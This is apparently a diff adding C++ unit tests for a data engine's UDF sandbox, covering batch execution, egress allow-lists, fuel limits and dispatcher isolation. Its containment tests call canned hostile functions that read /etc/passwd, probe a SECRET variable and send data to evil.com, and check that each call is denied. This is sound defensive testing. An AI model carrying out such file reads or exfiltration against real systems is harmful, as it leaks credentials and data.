@@ -1,0 +1,268 @@
+// Tests for src/sandbox: host environment, policy-mediated host access,
+// batch execution across the channel boundary, fusion via multi-invocation
+// batches, and the dispatcher's pooling / trust-domain invariants.
+
+#include <gtest/gtest.h>
+
+#include "columnar/table.h"
+#include "common/clock.h"
+#include "sandbox/dispatcher.h"
+#include "sandbox/host_env.h"
+#include "sandbox/sandbox.h"
+#include "udf/builder.h"
+
+namespace lakeguard {
+namespace {
+
+class SandboxTest : public ::testing::Test {
+ protected:
+  SandboxTest() : clock_(0), env_(&clock_) {
+    env_.SetEnv("SECRET", "hunter2");
+    env_.WriteFile("/etc/passwd", "root:x:0:0");
+    env_.RegisterHttpHandler("http://api.good.com/",
+                             [](const std::string&) { return "200 OK"; });
+  }
+
+  RecordBatch ArgBatch(std::vector<std::pair<int64_t, int64_t>> rows) {
+    TableBuilder builder(Schema({{"a0", TypeKind::kInt64, true},
+                                 {"a1", TypeKind::kInt64, true}}));
+    for (auto [a, b] : rows) {
+      EXPECT_TRUE(builder.AppendRow({Value::Int(a), Value::Int(b)}).ok());
+    }
+    auto combined = builder.Build().Combine();
+    EXPECT_TRUE(combined.ok());
+    return *combined;
+  }
+
+  UdfInvocation SumInvocation() {
+    UdfInvocation inv;
+    inv.bytecode = canned::SumUdf();
+    inv.arg_indices = {0, 1};
+    inv.result_name = "sum";
+    inv.result_type = TypeKind::kInt64;
+    return inv;
+  }
+
+  SimulatedClock clock_;
+  SimulatedHostEnvironment env_;
+};
+
+// ---- Host environment ----------------------------------------------------------------
+
+TEST_F(SandboxTest, HostEnvBasics) {
+  EXPECT_EQ(*env_.ReadFile("/etc/passwd"), "root:x:0:0");
+  EXPECT_TRUE(env_.ReadFile("/nope").status().IsNotFound());
+  EXPECT_EQ(*env_.GetEnv("SECRET"), "hunter2");
+  EXPECT_TRUE(env_.FileExists("/etc/passwd"));
+  auto body = env_.HttpGet("http://api.good.com/x", "", true);
+  ASSERT_TRUE(body.ok());
+  EXPECT_EQ(*body, "200 OK");
+  EXPECT_TRUE(env_.HttpGet("http://unrouted.io/", "", true)
+                  .status()
+                  .IsNotFound());
+  EXPECT_EQ(env_.egress_log().size(), 2u);
+}
+
+// ---- Sandbox execution ----------------------------------------------------------------
+
+TEST_F(SandboxTest, ExecutesBatchAcrossBoundary) {
+  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  auto result = sandbox.ExecuteBatch(ArgBatch({{1, 2}, {3, 4}, {5, 6}}),
+                                     {SumInvocation()});
+  ASSERT_TRUE(result.ok()) << result.status();
+  EXPECT_EQ(result->num_rows(), 3u);
+  EXPECT_EQ(result->column(0).IntAt(0), 3);
+  EXPECT_EQ(result->column(0).IntAt(2), 11);
+  // Bytes really crossed the boundary, both ways.
+  EXPECT_GT(sandbox.stats().bytes_in, 0u);
+  EXPECT_GT(sandbox.stats().bytes_out, 0u);
+  EXPECT_EQ(sandbox.stats().udf_calls, 3u);
+}
+
+TEST_F(SandboxTest, FusedInvocationsOneRoundTrip) {
+  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  UdfInvocation hash;
+  hash.bytecode = canned::HashUdf(2);
+  hash.arg_indices = {0};
+  hash.result_name = "h";
+  hash.result_type = TypeKind::kString;
+  auto result =
+      sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {SumInvocation(), hash});
+  ASSERT_TRUE(result.ok());
+  EXPECT_EQ(result->num_columns(), 2u);
+  EXPECT_EQ(sandbox.stats().batches, 1u);  // one boundary crossing for both
+}
+
+TEST_F(SandboxTest, ResultCastToDeclaredType) {
+  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  UdfInvocation inv = SumInvocation();
+  inv.result_type = TypeKind::kFloat64;  // engine declared DOUBLE
+  auto result = sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {inv});
+  ASSERT_TRUE(result.ok());
+  EXPECT_DOUBLE_EQ(result->column(0).DoubleAt(0), 3.0);
+}
+
+TEST_F(SandboxTest, BadArgIndexRejected) {
+  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  UdfInvocation inv = SumInvocation();
+  inv.arg_indices = {0, 9};
+  EXPECT_FALSE(sandbox.ExecuteBatch(ArgBatch({{1, 2}}), {inv}).ok());
+}
+
+// ---- Containment ------------------------------------------------------------------------
+
+TEST_F(SandboxTest, LockedDownDeniesFileEnvNetwork) {
+  Sandbox sandbox("sbx-t", "owner", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
+  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
+  auto batch = *builder.Build().Combine();
+
+  UdfInvocation file;
+  file.bytecode = canned::FileExfiltrationUdf("/etc/passwd");
+  file.result_name = "f";
+  file.result_type = TypeKind::kString;
+  auto r1 = sandbox.ExecuteBatch(batch, {file});
+  EXPECT_TRUE(r1.status().IsPermissionDenied());
+
+  UdfInvocation env_probe;
+  env_probe.bytecode = canned::EnvProbeUdf("SECRET");
+  env_probe.result_name = "e";
+  env_probe.result_type = TypeKind::kString;
+  EXPECT_TRUE(
+      sandbox.ExecuteBatch(batch, {env_probe}).status().IsPermissionDenied());
+
+  UdfInvocation net;
+  net.bytecode = canned::NetworkExfiltrationUdf("http://evil.com/drop");
+  net.arg_indices = {0};
+  net.result_name = "n";
+  net.result_type = TypeKind::kString;
+  EXPECT_TRUE(
+      sandbox.ExecuteBatch(batch, {net}).status().IsPermissionDenied());
+  EXPECT_GE(sandbox.stats().denied_host_calls, 3u);
+  // The drop was recorded by the "network namespace".
+  EXPECT_GE(env_.BlockedEgressCount(), 1u);
+}
+
+TEST_F(SandboxTest, EgressAllowListIsExact) {
+  SandboxPolicy policy = SandboxPolicy::WithEgress({"api.good.com"});
+  Sandbox sandbox("sbx-t", "owner", policy, &env_, &clock_);
+  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
+  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
+  auto batch = *builder.Build().Combine();
+
+  UdfInvocation ok_call;
+  ok_call.bytecode = canned::NetworkExfiltrationUdf("http://api.good.com/x");
+  ok_call.arg_indices = {0};
+  ok_call.result_name = "r";
+  ok_call.result_type = TypeKind::kString;
+  EXPECT_TRUE(sandbox.ExecuteBatch(batch, {ok_call}).ok());
+
+  UdfInvocation bad_call;
+  bad_call.bytecode = canned::NetworkExfiltrationUdf("http://evil.com/x");
+  bad_call.arg_indices = {0};
+  bad_call.result_name = "r";
+  bad_call.result_type = TypeKind::kString;
+  EXPECT_TRUE(
+      sandbox.ExecuteBatch(batch, {bad_call}).status().IsPermissionDenied());
+}
+
+TEST_F(SandboxTest, FuelLimitAppliesInsideSandbox) {
+  SandboxPolicy policy = SandboxPolicy::LockedDown();
+  policy.fuel = 1000;
+  Sandbox sandbox("sbx-t", "owner", policy, &env_, &clock_);
+  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
+  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
+  UdfInvocation spin;
+  spin.bytecode = canned::InfiniteLoopUdf();
+  spin.result_name = "r";
+  spin.result_type = TypeKind::kInt64;
+  auto result = sandbox.ExecuteBatch(*builder.Build().Combine(), {spin});
+  EXPECT_EQ(result.status().code(), StatusCode::kResourceExhausted);
+}
+
+// ---- Dispatcher ---------------------------------------------------------------------------
+
+class DispatcherTest : public SandboxTest {
+ protected:
+  DispatcherTest()
+      : provisioner_(&env_, &clock_, /*cold_start_micros=*/2'000'000),
+        dispatcher_(&provisioner_, &clock_) {}
+
+  LocalSandboxProvisioner provisioner_;
+  Dispatcher dispatcher_;
+};
+
+TEST_F(DispatcherTest, ColdStartChargedOnceThenReused) {
+  int64_t before = clock_.NowMicros();
+  auto s1 = dispatcher_.Acquire("sess-1", "owner-a",
+                                SandboxPolicy::LockedDown());
+  ASSERT_TRUE(s1.ok());
+  EXPECT_EQ(clock_.NowMicros() - before, 2'000'000);  // ~2s cold start (§5)
+
+  int64_t mid = clock_.NowMicros();
+  auto s2 = dispatcher_.Acquire("sess-1", "owner-a",
+                                SandboxPolicy::LockedDown());
+  ASSERT_TRUE(s2.ok());
+  EXPECT_EQ(*s1, *s2);                      // same sandbox
+  EXPECT_EQ(clock_.NowMicros(), mid);       // no second cold start
+  EXPECT_EQ(dispatcher_.stats().cold_starts, 1u);
+  EXPECT_EQ(dispatcher_.stats().reuses, 1u);
+}
+
+TEST_F(DispatcherTest, TrustDomainsNeverShareASandbox) {
+  auto a = dispatcher_.Acquire("sess-1", "owner-a",
+                               SandboxPolicy::LockedDown());
+  auto b = dispatcher_.Acquire("sess-1", "owner-b",
+                               SandboxPolicy::LockedDown());
+  ASSERT_TRUE(a.ok());
+  ASSERT_TRUE(b.ok());
+  EXPECT_NE(*a, *b);
+  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 2u);
+}
+
+TEST_F(DispatcherTest, SessionsNeverShareASandbox) {
+  auto a = dispatcher_.Acquire("sess-1", "owner-a",
+                               SandboxPolicy::LockedDown());
+  auto b = dispatcher_.Acquire("sess-2", "owner-a",
+                               SandboxPolicy::LockedDown());
+  EXPECT_NE(*a, *b);
+}
+
+TEST_F(DispatcherTest, PolicyChangeReplacesSandbox) {
+  auto a = dispatcher_.Acquire("sess-1", "owner-a",
+                               SandboxPolicy::LockedDown());
+  ASSERT_TRUE(a.ok());
+  auto b = dispatcher_.Acquire("sess-1", "owner-a",
+                               SandboxPolicy::WithEgress({"api.good.com"}));
+  ASSERT_TRUE(b.ok());
+  EXPECT_EQ(dispatcher_.stats().cold_starts, 2u);
+  EXPECT_EQ(dispatcher_.stats().evictions, 1u);
+  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 1u);
+}
+
+TEST_F(DispatcherTest, ReleaseSessionDestroysOnlyItsSandboxes) {
+  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "a",
+                                  SandboxPolicy::LockedDown()).ok());
+  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "b",
+                                  SandboxPolicy::LockedDown()).ok());
+  ASSERT_TRUE(dispatcher_.Acquire("sess-2", "a",
+                                  SandboxPolicy::LockedDown()).ok());
+  dispatcher_.ReleaseSession("sess-1");
+  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 1u);
+}
+
+TEST_F(DispatcherTest, IdleEviction) {
+  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "a",
+                                  SandboxPolicy::LockedDown()).ok());
+  clock_.AdvanceMicros(10'000'000);
+  EXPECT_EQ(dispatcher_.EvictIdle(/*idle_micros=*/5'000'000), 1u);
+  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 0u);
+}
+
+}  // namespace
+}  // namespace lakeguard
